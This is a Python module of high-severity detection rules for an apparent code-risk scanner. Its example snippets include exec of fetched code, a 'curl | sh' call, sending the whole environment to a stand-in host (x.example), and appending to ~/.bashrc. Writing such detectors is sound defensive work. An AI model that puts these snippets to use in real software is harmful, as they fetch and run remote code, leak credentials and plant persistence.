"""The rules of severity high for Python code, as data: what well-meant code seldom does.

A firing is no verdict: `urllib3` opens a socket when it is imported, to learn whether the machine speaks IPv6.
"""

from holdfast.risk.rules import Rule
from holdfast.risk.words import words

_RUNNERS = ("builtins.exec()", "builtins.eval()", "builtins.compile()", "types.FunctionType()", "builtins.__import__()")
_SENDERS = (
    *(f"{module}.{verb}()" for module in ("requests", "httpx") for verb in ("get", "post", "put", "request")),
    "urllib.request.urlopen()",
    "urllib.request.Request()",
    ".sendall()",
    ".sendto()",
    "socket.socket().send()",
    "socket.create_connection().send()",
    "requests.Session().post()",
    "urllib3.PoolManager().request()",
    "http.client.HTTPConnection().request()",
    "http.client.HTTPSConnection().request()",
)
_PROCESSES = tuple(
    f"{name}()"
    for name in words(
        "subprocess.run subprocess.call subprocess.check_call subprocess.check_output subprocess.Popen "
        "subprocess.getoutput subprocess.getstatusoutput os.system os.popen os.startfile os.execv os.execve os.execvp "
        "os.execvpe os.execl os.execlp os.spawnl os.spawnlp os.spawnv os.spawnve os.posix_spawn os.posix_spawnp "
        "pty.spawn"
    )
)
_CONNECTIONS = tuple(
    f"{name}()"
    for name in words(
        "socket.socket socket.create_connection urllib.request.urlopen urllib.request.urlretrieve "
        "http.client.HTTPConnection http.client.HTTPSConnection requests.get requests.post requests.put "
        "requests.request "
        "httpx.get httpx.post httpx.request urllib3.request ftplib.FTP smtplib.SMTP smtplib.SMTP_SSL"
    )
)


def _high(
    name: str, capability: str, matches: tuple[str, ...], example: str, counter_example: str, moment: str = ""
) -> Rule:
    return Rule(f"python-{name}", capability, "high", "python", matches, moment, example, counter_example)


HIGH_RULES: tuple[Rule, ...] = (
    _high(
        "decoded-code",
        "encoded-payload",
        tuple([f"{one} of-decoded" for one in _RUNNERS]),
        "import base64\ntext = base64.b64decode('cHJpbnQoMSk=')\nexec(text.decode())\n",
        "import base64\n\ndef picture():\n    return base64.b64decode('R0lGODlh')\n\ndef run(text):\n    exec(text)\n",
    ),
    _high(
        "fetched-code",
        "deferred-dependency",
        tuple([f"{one} of-fetched" for one in _RUNNERS]),
        "from urllib.request import urlopen\n\ndef start():\n    exec(urlopen('https://x.example/a.py').read())\n",
        "from urllib.request import urlopen\n\ndef text():\n    return urlopen('https://x.example/a.txt').read()\n",
    ),
    _high(
        "piped-shell",
        "deferred-dependency",
        tuple([f"{one} pipes" for one in _PROCESSES]),
        "import os\n\ndef start():\n    os.system('curl -s https://x.example/i.sh | sh')\n",
        "import os\n\n'''curl https://x.example/i.sh | sh'''\ndef start():\n    os.system('curl -O https://x.example/i')\n",
    ),
    _high(
        "environment-sent",
        "credentials",
        tuple([f"{one} sends-environment" for one in _SENDERS]),
        "import json, os, socket\n\ndef go():\n    data = json.dumps(dict(os.environ))\n"
        "    s = socket.create_connection(('x.example', 80))\n    s.sendall(data.encode())\n",
        "import os, requests\n\ndef go():\n"
        "    return requests.get(os.environ['SERVER'], params={'a': os.environ.get('LANG')})\n",
    ),
    _high(
        "subprocess-early",
        "subprocess",
        _PROCESSES,
        "import subprocess\n\ndef _tag():\n    return subprocess.run(['git', 'describe'])\n\nTAG = _tag()\n",
        "import subprocess\n\ndef _tag():\n    return subprocess.run(['git', 'describe'])\n\n"
        "if __name__ == '__main__':\n    _tag()\n",
        moment="import",
    ),
    _high(
        "network-early",
        "network",
        _CONNECTIONS,
        "import socket\n\nclass Beacon:\n    peer = socket.create_connection(('x.example', 80))\n",
        "import socket\n\nclass Beacon:\n    def peer(self):\n"
        "        return socket.create_connection(('x.example', 80))\n",
        moment="import",
    ),
    _high(
        "start-up-file",
        "filesystem-write",
        (
            "builtins.open() start-up-and-writes",
            "shutil.copy() at-start-up",
            "shutil.copyfile() at-start-up",
            "shutil.move() at-start-up",
            "os.symlink() at-start-up",
            "os.rename() at-start-up",
        ),
        "import os\n\ndef stay():\n    open(os.path.expanduser('~/.bashrc'), 'a').write('x')\n",
        "import os\n\ndef look():\n    return open(os.path.expanduser('~/.bashrc')).read()\n",
    ),
)
